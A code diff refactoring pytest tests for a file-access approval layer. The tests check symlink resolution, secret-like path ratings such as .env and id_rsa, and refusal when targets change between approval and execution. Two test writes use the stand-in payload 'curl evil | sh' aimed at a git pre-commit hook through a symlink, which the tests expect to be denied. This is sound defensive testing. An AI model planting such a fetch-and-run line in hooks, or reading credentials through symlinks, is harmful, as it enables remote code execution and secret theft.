@@ -27,20 +27,6 @@ from workers import fs
 HOOK = "#!/bin/sh\nexit 0\n"
 
 
-class Recorder:
-    """An approver that records each request and runs ``action(request)`` before answering."""
-
-    def __init__(self, action=None, answer="allow_once"):
-        self.action, self.answer = action, answer
-        self.requests: list[dict] = []
-
-    def __call__(self, request):
-        self.requests.append(request)
-        if self.action is not None:
-            self.action(request)
-        return self.answer
-
-
 def hooked_repository(workspace: Path) -> Path:
     hooks = workspace / ".git" / "hooks"
     hooks.mkdir(parents=True)
@@ -55,10 +41,40 @@ def hooked_repository(workspace: Path) -> Path:
 # -- what the approver sees, and what rules match ---------------------------------------------------------
 
 
-def test_a_write_through_a_symlink_shows_both_paths(open_session, workspace, resolver_env):
+class Scripted:
+    """One approver for a whole session: records each request, runs the current ``action`` (if any)
+    before answering the current ``answer``."""
+
+    def __init__(self):
+        self.requests: list[dict] = []
+        self.action = None
+        self.answer = "allow_once"
+
+    def __call__(self, request):
+        self.requests.append(request)
+        if self.action is not None:
+            self.action(request)
+        return self.answer
+
+    def expect(self, action=None, answer="allow_once"):
+        self.requests.clear()
+        self.action, self.answer = action, answer
+        return self
+
+
+@pytest.fixture
+def asking(open_session, resolver_env):
+    """A session (per resolver) that asks about every read and write, with a scripted approver."""
+    approver = Scripted()
+    session = open_session({"approval": {"read_only": "ask", "filesystem": "ask"}}, env=resolver_env,
+                           approver=approver)
+    return session, approver
+
+
+def test_what_the_approver_is_shown(asking, workspace, tmp_path):
+    session, approver = asking
     hook = hooked_repository(workspace)
-    approver = Recorder(answer="deny")
-    session = open_session({"approval": {"filesystem": "ask"}}, env=resolver_env, approver=approver)
+    approver.expect(answer="deny")
     expect_error(session, "write", {"path": "docs/notes.md", "content": "curl evil | sh\n", "mode": "replace"},
                  "denied")
     (request,) = approver.requests
@@ -69,6 +85,45 @@ def test_a_write_through_a_symlink_shows_both_paths(open_session, workspace, res
     assert details["directory_id"] == f"{parent.st_dev}:{parent.st_ino}"
     assert "'docs/notes.md' resolves to '.git/hooks/pre-commit'" in request["risk_reason"]
     assert hook.read_text() == HOOK
+
+    # A path that resolves to itself shows no typed_path; a create pins only its directory.
+    (workspace / "a.txt").write_text("a")
+    approver.expect()
+    expect_ok(session, "read", {"path": "./a.txt"})
+    expect_ok(session, "write", {"path": "b.txt", "content": "b", "mode": "create"})
+    read_request, write_request = approver.requests
+    assert read_request["details"]["path"] == "a.txt" and "typed_path" not in read_request["details"]
+    assert write_request["details"]["path"] == "b.txt" and "typed_path" not in write_request["details"]
+    assert "file_id" not in write_request["details"]
+    assert read_request["risk_reason"] == "reads a file inside the workspace"
+
+    # Targets that do not change between approval and execution run normally, through symlinks.
+    (workspace / "real").mkdir()
+    (workspace / "real" / "f.txt").write_text("one")
+    os.symlink("real", workspace / "dir-link")
+    os.symlink("dir-link/f.txt", workspace / "file-link")
+    approver.expect()
+    assert expect_ok(session, "read", {"path": "file-link"})["content"] == "one"
+    assert expect_ok(session, "write", {"path": "file-link", "content": "two", "mode": "replace"})
+    assert expect_ok(session, "write", {"path": "dir-link/g.txt", "content": "new", "mode": "create"})
+    assert (workspace / "real" / "f.txt").read_text() == "two" and (workspace / "real" / "g.txt").read_text() == "new"
+    assert [r["details"]["path"] for r in approver.requests] == ["real/f.txt", "real/f.txt", "real/g.txt"]
+    assert os.path.islink(workspace / "file-link")
+
+    # Calls that cannot succeed fail with their usual code before anyone is asked.
+    (tmp_path / "outside").mkdir()
+    os.symlink("../outside", workspace / "out")
+    os.mkfifo(workspace / "fifo")
+    approver.expect()
+    expect_error(session, "read", {"path": "missing"}, "not_found")
+    expect_error(session, "read", {"path": "out/x"}, "outside_workspace")
+    expect_error(session, "read", {"path": "fifo"}, "not_a_regular_file")
+    expect_error(session, "write", {"path": "missing", "content": "x", "mode": "replace"}, "not_found")
+    expect_error(session, "write", {"path": "a.txt", "content": "x", "mode": "create"}, "already_exists")
+    expect_error(session, "write", {"path": "nodir/x", "content": "x", "mode": "create"}, "not_found")
+    expect_error(session, "write", {"path": "out/x", "content": "x", "mode": "create"}, "outside_workspace")
+    assert approver.requests == []
+    assert os.listdir(tmp_path / "outside") == []
 
 
 def test_the_hook_attack_is_not_allowed_by_a_docs_rule(open_session, workspace):
@@ -85,62 +140,24 @@ def test_the_hook_attack_is_not_allowed_by_a_docs_rule(open_session, workspace):
     assert (workspace / "docs" / "notes.md").is_symlink()
 
 
-def test_no_typed_path_when_the_path_resolves_to_itself(open_session, workspace):
-    approver = Recorder()
-    session = open_session({"approval": {"read_only": "ask", "filesystem": "ask"}}, approver=approver)
-    (workspace / "a.txt").write_text("a")
-    expect_ok(session, "read", {"path": "./a.txt"})
-    expect_ok(session, "write", {"path": "b.txt", "content": "b", "mode": "create"})
-    read_request, write_request = approver.requests
-    assert read_request["details"]["path"] == "a.txt" and "typed_path" not in read_request["details"]
-    assert write_request["details"]["path"] == "b.txt" and "typed_path" not in write_request["details"]
-    assert "file_id" not in write_request["details"]  # nothing exists yet: only its directory is pinned
-    assert read_request["risk_reason"] == "reads a file inside the workspace"
-
-
-@pytest.mark.parametrize("link, target", [("notes.txt", ".env"), ("docs/readme", "../deploy/id_rsa"),
-                                          ("cfg", "config/credentials.json")])
-def test_a_read_through_an_innocent_name_is_rated_by_what_it_reads(open_session, workspace, resolver_env,
-                                                                     link, target):
-    (workspace / "docs").mkdir()
-    (workspace / "deploy").mkdir()
-    (workspace / "config").mkdir()
-    (workspace / target.removeprefix("../")).write_text("TOKEN=1\n")
-    os.symlink(target, workspace / link)
-    session = open_session({"approval": {"read_only": "allow", "filesystem": "deny"}}, env=resolver_env)
-    error = expect_error(session, "read", {"path": link}, "denied")
-    assert "filesystem risk" in error.message and "secret-like path" in error.message
-    assert "resolves to" in error.message
-    resolved = os.path.normpath(os.path.join(os.path.dirname(link), target))
-    assert repr(resolved) in error.message
-
-
-def test_a_secret_like_typed_name_stays_secret_like_whatever_it_points_to(open_session, workspace):
-    """The stricter of the two ratings wins: '.env -> plain.txt' is still asked about."""
-    (workspace / "plain.txt").write_text("x")
-    os.symlink("plain.txt", workspace / ".env")
+def test_reads_are_rated_by_the_stricter_of_the_typed_and_the_resolved_path(open_session, workspace):
+    for directory in ("docs", "deploy", "config"):
+        (workspace / directory).mkdir()
     session = open_session({"approval": {"read_only": "allow", "filesystem": "deny"}})
-    error = expect_error(session, "read", {"path": ".env"}, "denied")
-    assert "secret-like path: '.env'" in error.message
+    for link, target in (("notes.txt", ".env"), ("docs/readme", "../deploy/id_rsa"),
+                         ("cfg", "config/credentials.json")):
+        resolved = os.path.normpath(os.path.join(os.path.dirname(link), target))
+        (workspace / resolved).write_text("TOKEN=1\n")
+        os.symlink(target, workspace / link)
+        error = expect_error(session, "read", {"path": link}, "denied")
+        assert "filesystem risk" in error.message and "secret-like path" in error.message, link
+        assert f"{link!r} resolves to {resolved!r}" in error.message
+    # '.env -> plain.txt' is still asked about: the typed name counts too.
+    (workspace / "plain.txt").write_text("x")
+    os.symlink("plain.txt", workspace / ".env.local")
+    error = expect_error(session, "read", {"path": ".env.local"}, "denied")
+    assert "secret-like path: '.env.local'" in error.message
     assert expect_ok(session, "read", {"path": "plain.txt"})["content"] == "x"
-
-
-def test_calls_that_cannot_succeed_fail_before_anyone_is_asked(open_session, workspace, tmp_path):
-    approver = Recorder()
-    session = open_session({"approval": {"read_only": "ask", "filesystem": "ask"}}, approver=approver)
-    (tmp_path / "outside").mkdir()
-    os.symlink("../outside", workspace / "out")
-    os.mkfifo(workspace / "fifo")
-    (workspace / "here").write_text("x")
-    expect_error(session, "read", {"path": "missing"}, "not_found")
-    expect_error(session, "read", {"path": "out/x"}, "outside_workspace")
-    expect_error(session, "read", {"path": "fifo"}, "not_a_regular_file")
-    expect_error(session, "write", {"path": "missing", "content": "x", "mode": "replace"}, "not_found")
-    expect_error(session, "write", {"path": "here", "content": "x", "mode": "create"}, "already_exists")
-    expect_error(session, "write", {"path": "nodir/x", "content": "x", "mode": "create"}, "not_found")
-    expect_error(session, "write", {"path": "out/x", "content": "x", "mode": "create"}, "outside_workspace")
-    assert approver.requests == []
-    assert os.listdir(tmp_path / "outside") == []
 
 
 # -- the worker opens only what was approved --------------------------------------------------------------
@@ -154,99 +171,71 @@ def repoint(link: Path, target: str):
     return action
 
 
-def test_a_read_symlink_repointed_after_approval_is_refused(open_session, workspace, resolver_env):
-    (workspace / "a.txt").write_text("approved")
-    (workspace / "b.txt").write_text("NOT APPROVED")
-    os.symlink("a.txt", workspace / "link")
-    approver = Recorder(repoint(workspace / "link", "b.txt"))
-    session = open_session({"approval": {"read_only": "ask"}}, env=resolver_env, approver=approver)
+def test_what_changes_between_approval_and_execution_is_refused(asking, workspace):
+    session, approver = asking
+    ws = workspace
+
+    # A read symlink re-pointed at another file.
+    (ws / "a.txt").write_text("approved")
+    (ws / "b.txt").write_text("NOT APPROVED")
+    os.symlink("a.txt", ws / "link")
+    approver.expect(repoint(ws / "link", "b.txt"))
     error = expect_error(session, "read", {"path": "link"}, "changed_since_approval")
     assert "approved as 'a.txt' but now resolves to 'b.txt'" in error.message
     assert approver.requests[0]["details"]["path"] == "a.txt"
 
-
-def test_a_file_replaced_after_approval_is_refused(open_session, workspace, resolver_env):
-    (workspace / "f.txt").write_text("approved")
-
+    # The file itself replaced by another (same path, new inode).
     def replace_file(request):
-        (workspace / "f.new").write_text("swapped in")
-        os.replace(workspace / "f.new", workspace / "f.txt")
+        (ws / "f.new").write_text("swapped in")
+        os.replace(ws / "f.new", ws / "a.txt")
 
-    session = open_session({"approval": {"read_only": "ask"}}, env=resolver_env, approver=Recorder(replace_file))
-    error = expect_error(session, "read", {"path": "f.txt"}, "changed_since_approval")
-    assert "another file" in error.message
+    approver.expect(replace_file)
+    assert "another file" in expect_error(session, "read", {"path": "a.txt"}, "changed_since_approval").message
 
-
-def test_a_write_symlink_repointed_at_the_hook_after_approval_is_refused(open_session, workspace, resolver_env):
-    hook = hooked_repository(workspace)
-    (workspace / "docs" / "real.md").write_text("old\n")
-    os.replace(workspace / "docs" / "notes.md", workspace / "docs" / "hook-link")
-    os.symlink("real.md", workspace / "docs" / "notes.md")
-    approver = Recorder(repoint(workspace / "docs" / "notes.md", "../.git/hooks/pre-commit"))
-    session = open_session({"approval": {"filesystem": "ask"}}, env=resolver_env, approver=approver)
+    # A write symlink re-pointed at the hook after approval.
+    hook = hooked_repository(ws)
+    (ws / "docs" / "real.md").write_text("old\n")
+    os.replace(ws / "docs" / "notes.md", ws / "docs" / "hook-link")
+    os.symlink("real.md", ws / "docs" / "notes.md")
+    approver.expect(repoint(ws / "docs" / "notes.md", "../.git/hooks/pre-commit"))
     error = expect_error(session, "write", {"path": "docs/notes.md", "content": "curl evil | sh\n",
                                             "mode": "replace"}, "changed_since_approval")
     assert "approved as 'docs/real.md' but now resolves to '.git/hooks/pre-commit'" in error.message
-    assert hook.read_text() == HOOK and (workspace / "docs" / "real.md").read_text() == "old\n"
-    assert not [p for p in (workspace / "docs").iterdir() if p.name.startswith(".peon-tmp-")]
+    assert hook.read_text() == HOOK and (ws / "docs" / "real.md").read_text() == "old\n"
+    assert not [p for p in (ws / "docs").iterdir() if p.name.startswith(".peon-tmp-")]
 
-
-def test_a_create_whose_directory_is_swapped_after_approval_is_refused(open_session, workspace, resolver_env):
-    (workspace / "a").mkdir()
-    (workspace / "b").mkdir()
-    os.symlink("a", workspace / "out")
-    approver = Recorder(repoint(workspace / "out", "b"))
-    session = open_session({"approval": {"filesystem": "ask"}}, env=resolver_env, approver=approver)
+    # A create whose directory symlink is re-pointed.
+    (ws / "da").mkdir()
+    (ws / "db").mkdir()
+    os.symlink("da", ws / "out")
+    approver.expect(repoint(ws / "out", "db"))
     error = expect_error(session, "write", {"path": "out/new.txt", "content": "x", "mode": "create"},
                          "changed_since_approval")
-    assert "approved as 'a/new.txt' but now resolves to 'b/new.txt'" in error.message
-    assert os.listdir(workspace / "a") == [] and os.listdir(workspace / "b") == []
+    assert "approved as 'da/new.txt' but now resolves to 'db/new.txt'" in error.message
+    assert os.listdir(ws / "da") == [] and os.listdir(ws / "db") == []
 
-
-def test_a_directory_replaced_by_another_after_approval_is_refused(open_session, workspace, resolver_env):
-    """Same path, same name, another directory object: the directory's identity is checked at the write."""
-    (workspace / "d").mkdir()
+    # Same path, same name, another directory object.
+    (ws / "d").mkdir()
 
     def swap_directory(request):
-        os.rename(workspace / "d", workspace / "d-approved")
-        (workspace / "d").mkdir()
+        os.rename(ws / "d", ws / "d-approved")
+        (ws / "d").mkdir()
 
-    session = open_session({"approval": {"filesystem": "ask"}}, env=resolver_env,
-                           approver=Recorder(swap_directory))
-    error = expect_error(session, "write", {"path": "d/new.txt", "content": "x", "mode": "create"},
-                         "changed_since_approval")
-    assert "another file" in error.message or "directory" in error.message
-    assert os.listdir(workspace / "d") == [] and os.listdir(workspace / "d-approved") == []
+    approver.expect(swap_directory)
+    expect_error(session, "write", {"path": "d/new.txt", "content": "x", "mode": "create"}, "changed_since_approval")
+    assert os.listdir(ws / "d") == [] and os.listdir(ws / "d-approved") == []
 
-
-def test_a_file_created_where_nothing_was_approved_is_refused(open_session, workspace, resolver_env):
-    """A replace approved for one file, whose path then leads to a file that appeared meanwhile."""
-    (workspace / "a.txt").write_text("a")
-    os.symlink("a.txt", workspace / "link")
+    # A replace whose symlink now leads to a file that appeared meanwhile.
+    (ws / "c.txt").write_text("c")
+    os.symlink("c.txt", ws / "c-link")
 
     def appear(request):
-        (workspace / "late.txt").write_text("late")
-        repoint(workspace / "link", "late.txt")(request)
+        (ws / "late.txt").write_text("late")
+        repoint(ws / "c-link", "late.txt")(request)
 
-    session = open_session({"approval": {"filesystem": "ask"}}, env=resolver_env, approver=Recorder(appear))
-    expect_error(session, "write", {"path": "link", "content": "x", "mode": "replace"}, "changed_since_approval")
-    assert (workspace / "a.txt").read_text() == "a" and (workspace / "late.txt").read_text() == "late"
-
-
-def test_unchanged_targets_run_normally_after_approval(open_session, workspace, resolver_env):
-    (workspace / "real").mkdir()
-    (workspace / "real" / "f.txt").write_text("one")
-    os.symlink("real", workspace / "dir-link")
-    os.symlink("dir-link/f.txt", workspace / "file-link")
-    approver = Recorder()
-    session = open_session({"approval": {"read_only": "ask", "filesystem": "ask"}}, env=resolver_env,
-                           approver=approver)
-    assert expect_ok(session, "read", {"path": "file-link"})["content"] == "one"
-    assert expect_ok(session, "write", {"path": "file-link", "content": "two", "mode": "replace"})
-    assert expect_ok(session, "write", {"path": "dir-link/g.txt", "content": "new", "mode": "create"})
-    assert (workspace / "real" / "f.txt").read_text() == "two" and (workspace / "real" / "g.txt").read_text() == "new"
-    assert [r["details"]["path"] for r in approver.requests] == ["real/f.txt", "real/f.txt", "real/g.txt"]
-    assert os.path.islink(workspace / "file-link")
+    approver.expect(appear)
+    expect_error(session, "write", {"path": "c-link", "content": "x", "mode": "replace"}, "changed_since_approval")
+    assert (ws / "c.txt").read_text() == "c" and (ws / "late.txt").read_text() == "late"
 
 
 # -- the pieces, in process -------------------------------------------------------------------------------
